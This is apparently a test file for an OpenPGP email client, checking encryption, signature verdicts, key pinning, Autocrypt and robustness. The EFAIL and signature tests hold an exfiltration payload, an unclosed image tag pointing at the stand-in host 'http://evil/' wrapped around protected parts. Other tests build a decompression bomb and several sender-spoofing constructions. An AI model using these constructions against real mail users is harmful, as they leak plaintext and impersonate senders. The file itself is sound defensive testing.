// Messages between people who both use this client.
import assert from "node:assert/strict";
import { test } from "node:test";
import { random, utf8 } from "../../src/keys/bytes";
import { readPublic } from "../../src/pgp/keys";
import { bytesOf, openpgp } from "../../src/pgp/openpgp";
import { draft, emptyPerson, introduce, latin1, message, NOW, person } from "./people";

const [alice, bob, eve] = await Promise.all([
	person("alice@example.org", "Alice Ä."),
	person("bob@example.org"),
	person("eve@example.org"),
]);
await introduce(alice, bob);
await introduce(bob, eve);

async function send(from: typeof alice, to: string[], protection: "plain" | "signed" | "encrypted", more = {}) {
	const [out] = await from.service.write({ draft: draft(from.address, to, more), protection, bcc: [], at: NOW });
	assert.ok(out);
	return out.message;
}

const readBy = (p: typeof alice, m: Uint8Array<ArrayBuffer>) => p.service.read({ message: m, received: NOW, authentic: true });

test("encrypted: nothing shows outside, everything is there inside", async () => {
	const content = random(5000);
	const html = '<p>Hello <img src="cid:pic@x"></p>';
	const attachments = [
		{ name: "Übersicht (1).pdf", type: "application/pdf", content },
		{ name: "p.png", type: "image/png", content: random(10), contentId: "pic@x" },
	];
	const sent = await send(alice, [bob.address], "encrypted", { html, attachments });
	const raw = latin1(sent);
	assert.match(raw, /\r\nSubject: \[\.\.\.\]\r\n/);
	assert.doesNotMatch(raw, /secret plan|bersicht|Hello/);
	assert.doesNotMatch(raw, /[^\r]\n/, "every line ends with CRLF");
	assert.ok(raw.split("\r\n").every((l) => l.length <= 998));
	const got = await readBy(bob, sent);
	assert.deepEqual([got.form, got.encrypted, got.failure], ["mime", true, "none"]);
	assert.equal(got.signature.verdict, "unverified");
	assert.equal(got.signature.fingerprint, alice.fingerprint);
	assert.equal(got.headers?.subject, "Grüße & the secret plan");
	assert.deepEqual(got.headers?.hidden, ["Subject"]);
	assert.equal(got.sender, alice.address);
	assert.equal(got.content?.text?.replace(/\r\n/g, "\n").includes("From here with trailing space \n.\nEuro: €"), true);
	assert.match(got.content?.html ?? "", /cid:pic@x/);
	const pdf = got.content?.attachments.find((a) => a.type === "application/pdf");
	assert.equal(pdf?.name, "Übersicht (1).pdf");
	assert.deepEqual(pdf?.content, content);
	// The sender's own copy opens, too.
	assert.equal((await readBy(alice, sent)).signature.verdict, "verified");
	assert.equal((await readBy(eve, sent)).failure, "noKey");
});

test("verdicts: pinned, changed, another's, unknown", async () => {
	const [carol, dave] = await Promise.all([person("carol@example.org"), person("dave@example.org")]);
	await introduce(carol, dave);
	const m = await send(carol, [dave.address], "signed");
	assert.equal((await readBy(dave, m)).signature.verdict, "unverified");
	assert.ok(dave.service.pin({ address: carol.address, fingerprint: carol.fingerprint, verified: true, at: NOW }));
	assert.equal((await readBy(dave, m)).signature.verdict, "verified");
	assert.equal((await readBy(eve, m)).signature.verdict, "unknownKey");

	// Carol gets another key: it is no match for the pinned one, however it arrives.
	const second = await person(carol.address);
	await dave.service.learn({ address: carol.address, key: second.publicKey, source: "wkd", at: NOW + 5 });
	await second.service.learn({ address: dave.address, key: dave.publicKey, source: "wkd", at: NOW });
	const changed = await readBy(dave, await send(second, [dave.address], "signed"));
	assert.equal(changed.signature.verdict, "changed");
	assert.equal(dave.service.pin({ address: carol.address, fingerprint: second.fingerprint, verified: false, at: NOW }), false);
	const plan = await dave.service.plan({ addresses: [carol.address], wish: "auto", threadEncrypted: false });
	assert.deepEqual([plan.action, plan.recipients[0]?.because], ["ask", "changedKey"]);

	// Eve signs as Carol: with a key that is not Carol's, and with one that only says so.
	await dave.service.learn({ address: eve.address, key: eve.publicKey, source: "directory", at: NOW });
	const forged = await eve.service.write({ draft: draft(carol.address, [dave.address]), protection: "signed", bcc: [], at: NOW });
	assert.equal((await readBy(dave, forged[0]?.message ?? random(0))).signature.verdict, "unknownKey");
});

test("a signature covers exactly what is shown", async () => {
	const m = latin1(await send(alice, [bob.address], "signed"));
	const read = (text: string) => readBy(bob, utf8(text));
	assert.equal((await read(m)).signature.verdict, "unverified");
	assert.equal((await read(m.replace("Hello", "Hullo"))).signature.verdict, "invalid");
	assert.equal((await read(m.replace('hp=3D"clear"', "x"))).signature.verdict, "unverified");
	assert.equal((await read(m.replace("Subject: =?utf-8?B?", "Subject: =?utf-8?B?QQ==?= =?utf-8?B?"))).headers?.subject, "Grüße & the secret plan");
	// A third part, a missing end, text around it: no verdict at all, and nothing opened by itself.
	const mark = /boundary="(=_[0-9a-f]+)"/.exec(m)?.[1] ?? "";
	const extra = m.replace(`\r\n--${mark}--`, `\r\n--${mark}\r\nContent-Type: text/html\r\n\r\n<b>more</b>\r\n--${mark}--`);
	assert.equal((await read(extra)).signature.verdict, "none");
	assert.equal((await read(m.replace(`--${mark}--`, ""))).signature.verdict, "none");
	const body = m.slice(m.indexOf("\r\n\r\n") + 4);
	const type = /Content-Type: multipart\/signed;[^]*?boundary="[^"]+"/.exec(m)?.[0] ?? "";
	const wrapped = `From: alice@example.org\r\nContent-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/?\r\n--o\r\n${type}\r\n\r\n${body}\r\n--o--\r\n`;
	const inside = await read(wrapped);
	assert.deepEqual([inside.form, inside.signature.verdict, inside.content], ["partial", "none", undefined]);
});

test("EFAIL: an encrypted part among others is not opened", async () => {
	const m = latin1(await send(alice, [bob.address], "encrypted"));
	const type = /Content-Type: multipart\/encrypted;[^]*?boundary="[^"]+"/.exec(m)?.[0] ?? "";
	const body = m.slice(m.indexOf("\r\n\r\n") + 4);
	const text = `From: eve@example.org\r\nContent-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/?\r\n--o\r\n${type}\r\n\r\n${body}\r\n--o\r\nContent-Type: text/html\r\n\r\n">\r\n--o--\r\n`;
	const got = await readBy(bob, utf8(text));
	assert.deepEqual([got.form, got.encrypted, got.content], ["partial", false, undefined]);
	const armor = /-----BEGIN PGP MESSAGE-----[^]*?-----END PGP MESSAGE-----/.exec(m)?.[0] ?? "";
	for (const around of [`look:\n${armor}`, `${armor}\nand more`, `<p>${armor}</p>`]) {
		const inline = await readBy(bob, message(`From: eve@example.org\nContent-Type: text/plain\n\n${around}\n`));
		assert.deepEqual([inline.form, inline.content], ["partial", undefined]);
	}
	const html = await readBy(bob, message(`From: eve@example.org\nContent-Type: text/html\n\n${armor}\n`));
	assert.deepEqual([html.form, html.content], ["partial", undefined]);
	const whole = await readBy(bob, message(`From: eve@example.org\nContent-Type: text/plain\n\n${armor}\n`));
	assert.deepEqual([whole.form, whole.encrypted, whole.content?.html], ["inline", true, undefined]);
	// With one character of its data changed it does not open at all.
	for (const at of [armor.length - 120, armor.length - 300, armor.length - 500]) {
		const c = armor.charAt(at) === "A" ? "B" : "A";
		const broken = `${armor.slice(0, at)}${c}${armor.slice(at + 1)}`;
		const bad = await readBy(bob, message(`From: eve@example.org\nContent-Type: text/plain\n\n${broken}\n`));
		assert.equal(bad.content, undefined);
		assert.notEqual(bad.failure, "none");
	}
});

test("another From inside counts only when that sender has signed it", async () => {
	// Eve writes a message whose protected header names Bob, and sends it under her own name.
	const inner = draft(bob.address, [bob.address], { subject: "from the boss" });
	await eve.service.learn({ address: bob.address, key: bob.publicKey, source: "directory", at: NOW });
	const [m] = await eve.service.write({ draft: inner, protection: "encrypted", bcc: [], at: NOW });
	const outer = latin1(m?.message ?? random(0)).replace(/^From: .*\r\n/, "From: eve@example.org\r\n");
	const got = await readBy(bob, utf8(outer));
	assert.equal(got.fromDiffers, true);
	assert.equal(got.sender, eve.address);
	assert.equal(got.headers?.from, undefined);
	assert.notEqual(got.signature.verdict, "verified");
});

test("blind copies get a message of their own", async () => {
	await alice.service.learn({ address: eve.address, key: eve.publicKey, source: "wkd", at: NOW });
	const out = await alice.service.write({
		draft: draft(alice.address, [bob.address]),
		protection: "encrypted",
		bcc: [eve.address],
		at: NOW,
	});
	assert.deepEqual(out.map((o) => o.recipients), [[bob.address], [eve.address]]);
	const [first, second] = out.map((o) => o.message);
	assert.ok(first && second);
	assert.equal((await readBy(eve, first)).failure, "noKey");
	assert.equal((await readBy(eve, second)).failure, "none");
	assert.doesNotMatch(latin1(first), /eve@/);
	assert.doesNotMatch(latin1(second), /eve@/);
});

test("Autocrypt: learnt from messages, used when both want it", async () => {
	const [fritz, gina] = [await person("fritz@example.org"), await person("gina@example.org")];
	const value = await fritz.service.autocryptValue({ address: fritz.address, mutual: true });
	const m = await send(fritz, [gina.address], "plain", { extra: [{ name: "Autocrypt", value }] });
	assert.match(latin1(m), /\r\nAutocrypt: addr=fritz@example\.org;/);
	await readBy(gina, m);
	const contact = await gina.service.contact({ address: fritz.address });
	assert.deepEqual(contact.map((c) => [c.info.fingerprint, c.source, c.pinned]), [[fritz.fingerprint, "autocrypt", false]]);
	const plan = await gina.service.plan({ addresses: [fritz.address], wish: "auto", threadEncrypted: false });
	assert.deepEqual([plan.action, plan.recipients[0]?.because], ["encrypt", "seenKey"]);
	// Two headers, another address, an unknown critical attribute: none is taken.
	for (const bad of [
		latin1(m).replace("\r\nMIME-Version", `\r\nAutocrypt: ${value}\r\nMIME-Version`),
		latin1(m).replace(/From: .*\r\n/, "From: other@example.org\r\n"),
		latin1(m).replace("addr=fritz", "critical=1; addr=fritz"),
	]) {
		const hugo = emptyPerson("hugo@example.org");
		await readBy({ ...hugo }, utf8(bad));
		assert.deepEqual(await hugo.service.contact({ address: fritz.address }), []);
	}
});

test("a key that was prolonged still stands for what it signed; one that had expired does not", async () => {
	const [karl, lena] = [await person("karl@example.org"), await person("lena@example.org")];
	await introduce(karl, lena);
	const m = await send(karl, [lena.address], "signed");
	const { fingerprint } = karl;
	await karl.service.setExpiry({ fingerprint, expires: NOW + 86400 });
	const later = await karl.service.exportPublic({ fingerprint });
	const mia = emptyPerson("mia@example.org");
	await mia.service.learn({ address: karl.address, key: later.binary, source: "wkd", at: NOW });
	assert.equal((await readBy({ ...mia }, m)).signature.verdict, "unverified");

	const past = new Date(Date.now() - 3 * 86400000);
	const userIDs = [{ email: "nora@example.org" }];
	const { privateKey } = await openpgp.generateKey({ type: "ecc", curve: "curve25519Legacy", userIDs, date: past, format: "object" });
	const { publicKey } = await openpgp.reformatKey({ privateKey, userIDs, keyExpirationTime: 86400, date: past, format: "object" });
	const signed = await openpgp.sign({
		message: await openpgp.createCleartextMessage({ text: "too late" }),
		signingKeys: privateKey,
	});
	await mia.service.learn({ address: "nora@example.org", key: bytesOf(publicKey.write()), source: "wkd", at: NOW });
	const got = await readBy({ ...mia }, message(`From: nora@example.org\nContent-Type: text/plain\n\n${signed}`));
	assert.equal(got.signature.verdict, "expired");
	assert.deepEqual((await mia.service.plan({ addresses: ["nora@example.org"], wish: "auto", threadEncrypted: true })).recipients[0]?.because, "unusableKey");
});

test("what unpacks to too much is not opened", async () => {
	const zeros = new Uint8Array(120 * 1024 * 1024);
	const bomb = await openpgp.encrypt({
		message: await openpgp.createMessage({ binary: zeros }),
		encryptionKeys: (await readPublic(bob.publicKey)) as never,
		config: { preferredCompressionAlgorithm: openpgp.enums.compression.zlib },
		format: "armored",
	});
	const got = await readBy(bob, message(`From: eve@example.org\nContent-Type: text/plain\n\n${bomb}`));
	assert.deepEqual([got.failure, got.content], ["tooLarge", undefined]);
});

/** The same numbers in every run. */
function* places(count: number, below: number): Generator<number> {
	for (let i = 0, x = 7; i < count; i++) {
		x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
		yield x % below;
	}
}

test("whatever byte is changed: with a good verdict the same is shown, or nothing", async () => {
	for (const protection of ["signed", "encrypted"] as const) {
		const m = await send(alice, [bob.address], protection, { html: "<p>Hello</p>" });
		const want = await readBy(bob, m);
		for (const at of places(250, m.length)) {
			const bad = m.slice();
			bad[at] = (bad[at] as number) ^ 1;
			const got = await readBy(bob, bad);
			if (!["verified", "unverified"].includes(got.signature.verdict)) continue;
			assert.deepEqual([got.content, got.headers?.subject], [want.content, want.headers?.subject], `${protection}, byte ${at}`);
			assert.equal(got.sender, alice.address);
		}
	}
});

test("signature spoofs: none looks like Alice's", async () => {
	const good = latin1(await send(alice, [bob.address], "signed"));
	await eve.service.learn({ address: bob.address, key: bob.publicKey, source: "directory", at: NOW });
	const hers = latin1(await send(eve, [bob.address], "signed"));
	const inline = async (who: typeof alice, text: string) =>
		String(
			await openpgp.sign({
				message: await openpgp.createCleartextMessage({ text }),
				signingKeys: await openpgp.readPrivateKey({ binaryKey: who.kept.keys[0] as Uint8Array }),
			}),
		);
	const one = await inline(alice, "I owe you 1");
	const verdict = async (text: string) => {
		const got = await readBy(bob, message(text));
		return [got.form, got.signature.verdict, got.sender];
	};
	const wrap = (type: string, inner: string) => `From: eve@example.org\nContent-Type: ${type}\n\n${inner}`;
	const text = "Content-Type: text/plain\n\n";
	// Alice's message as an attachment of Eve's, and as the first of two parts.
	assert.deepEqual(await verdict(wrap("message/rfc822", good)), ["plain", "none", eve.address]);
	const mixed = wrap('multipart/mixed; boundary="o"', `--o\nContent-Type: message/rfc822\n\n${good}\n--o--\n`);
	assert.deepEqual(await verdict(mixed), ["plain", "none", eve.address]);
	// Two Content-Types, two From fields, a name that looks like an address.
	assert.equal((await verdict(`Content-Type: text/html\r\n${good}`))[1], "none");
	// With a protected header the From that was signed counts, and without one there is no sender.
	assert.deepEqual((await verdict(`From: eve@example.org\r\n${good}`)).slice(1), ["unverified", alice.address]);
	const two = `From: eve@example.org\nFrom: alice@example.org\n${text}${one}`;
	assert.deepEqual(await verdict(two), ["inline", "unknownKey", undefined]);
	const named = hers.replace(/^From: .*\r\n/, 'From: "alice@example.org" <eve@example.org>\r\n');
	assert.deepEqual(await verdict(named), ["mime", "unverified", eve.address]);
	// Eve's good signature under Alice's name.
	const renamed = hers.replace(/^From: .*\r\n/, "From: alice@example.org\r\n");
	assert.notEqual((await verdict(renamed))[1], "verified");
	// Inline: text before, between and behind signed blocks; in HTML; a block inside a block.
	assert.deepEqual(await verdict(`From: alice@example.org\n${text}${one}`), ["inline", "unverified", alice.address]);
	for (const bad of [`${one}\n000\n${one}`, `${one}\n${one}`, `You owe me\n${one}`, `${one}\nP.S. 000`])
		assert.deepEqual(await verdict(`From: alice@example.org\n${text}${bad}`), ["partial", "none", alice.address]);
	assert.equal((await verdict(`From: alice@example.org\nContent-Type: text/html\n\n${one}`))[1], "none");
	assert.equal((await verdict(`From: alice@example.org\n${text}${one.replace("owe you 1", "owe you 1000")}`))[1], "invalid");
	const headed = one.replace("Hash: SHA512", "Hash: SHA512\nShown: I owe you 1000");
	assert.notEqual((await verdict(`From: alice@example.org\n${text}${headed}`))[1], "unverified");
	// A key whose name is Alice's and whose address is Eve's is not one of Alice's.
	const fake = emptyPerson(alice.address);
	const info = await fake.service.generate({ name: "alice@example.org", address: eve.address });
	const key = (await fake.service.exportPublic({ fingerprint: info.fingerprint })).binary;
	assert.deepEqual(await bob.service.learn({ address: alice.address, key, source: "attached", at: NOW }), []);
});
